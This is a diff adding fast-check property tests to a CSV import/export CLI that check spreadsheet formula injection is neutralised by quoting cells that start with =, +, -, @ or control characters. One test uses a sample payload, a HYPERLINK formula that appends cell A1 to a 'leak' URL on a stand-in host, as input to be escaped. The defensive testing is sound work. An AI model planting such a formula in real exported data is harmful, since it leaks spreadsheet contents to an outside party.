@@ -5,6 +5,7 @@ import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'n
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
+import fc from 'fast-check';
 
 const root = new URL('../../', import.meta.url);
 const cli = (...args) =>
@@ -163,5 +164,110 @@ describe('mission-widgets diff', () => {
       lines.some((line) => line.startsWith(`Event removed, ${removed.date}: `)),
       stdout,
     );
+  });
+});
+
+// Formula injection (issue 20): a spreadsheet runs a cell that begins with = + - @, or a tab or a
+// carriage return. The cells are read here as a spreadsheet reads them, quotes removed and
+// nothing else, by a reader of this test's own.
+function spreadsheetCells(text) {
+  const cells = [];
+  let cell = '';
+  let quoted = false;
+  let started = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i];
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') ((cell += '"'), i++);
+      else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"' && !started) ((quoted = true), (started = true));
+    else if (char === ',' || char === '\n') (cells.push(cell), (cell = ''), (started = false));
+    else if (char !== '\r' || text[i + 1] !== '\n') ((cell += char), (started = true));
+  }
+  return cells;
+}
+const RUNS = /^[=+\-@\t\r]/;
+const dangerous = fc
+  .tuple(
+    fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''+", "'-", '-5', '=1+1'),
+    fc.string({ maxLength: 8, unit: fc.constantFrom('a', '1', '(', ')', '"', ',', ' ', '=', "'", '\n') }),
+  )
+  .map(([start, rest]) => start + rest);
+
+describe('spreadsheet formula injection', async () => {
+  const { importTables, missionToTables, parseCsv, writeCsv, differences } = await import(
+    new URL('dist/tables.js', root)
+  );
+  const { validateMission } = await import(new URL('dist/data.js', root));
+
+  it('writes no cell a spreadsheet would run, and reads every cell back exactly (fast-check)', () => {
+    const rows = fc.array(
+      fc.array(fc.oneof(dangerous, fc.string({ maxLength: 4 })), { minLength: 1, maxLength: 4 }),
+      {
+        minLength: 1,
+        maxLength: 5,
+      },
+    );
+    fc.assert(
+      fc.property(rows, (table) => {
+        const text = writeCsv(table);
+        for (const cell of spreadsheetCells(text)) {
+          assert.ok(
+            !RUNS.test(cell) || /^-?\d+(\.\d+)?$/.test(cell),
+            `a live formula: ${JSON.stringify(cell)}`,
+          );
+        }
+        assert.deepEqual(
+          parseCsv(text).records.map((record) => record.cells),
+          table,
+        );
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('exports titles, summaries and publishers that look like formulas as text, and imports them unchanged (fast-check)', () => {
+    const word = dangerous.filter((text) => text.trim() === text && text.trim() !== '');
+    fc.assert(
+      fc.property(word, word, word, (title, summary, publisher) => {
+        const doc = shipped();
+        doc.events[0].title = title;
+        doc.events[1].summary = { en: summary, fr: title };
+        doc.sources[0].publisher = publisher;
+        const tables = missionToTables(doc);
+        for (const [file, text] of Object.entries(tables)) {
+          for (const cell of spreadsheetCells(text)) {
+            assert.ok(
+              !RUNS.test(cell) || /^-?\d+(\.\d+)?$/.test(cell),
+              `${file}: a live formula: ${JSON.stringify(cell)}`,
+            );
+          }
+        }
+        const result = importTables(tables, validateMission);
+        assert.deepEqual(
+          result.issues.filter((issue) => issue.severity === 'error'),
+          [],
+        );
+        assert.deepEqual(differences(doc, result.mission), []);
+      }),
+      { numRuns: 40 },
+    );
+  });
+
+  it('`export` writes =HYPERLINK(…) as text, and `import` gives back the same file', () => {
+    const doc = shipped();
+    doc.events[0].title = '=HYPERLINK("https://example.com/?leak="&A1,"Click")';
+    doc.sources[0].publisher = '@SUM(1+1)';
+    const file = join(scratch(), 'formulas.json');
+    writeFileSync(file, JSON.stringify(doc));
+    const folder = join(scratch(), 'tables');
+    assert.equal(cli('export', file, folder).status, 0);
+    const events = readFileSync(join(folder, 'events.csv'), 'utf8');
+    assert.ok(spreadsheetCells(events).includes(`'${doc.events[0].title}`), events.slice(0, 400));
+    assert.ok(spreadsheetCells(readFileSync(join(folder, 'sources.csv'), 'utf8')).includes("'@SUM(1+1)"));
+    const imported = cli('import', folder);
+    assert.equal(imported.status, 0, imported.stderr);
+    assert.deepEqual(canonical(JSON.parse(imported.stdout)), canonical(doc));
   });
 });
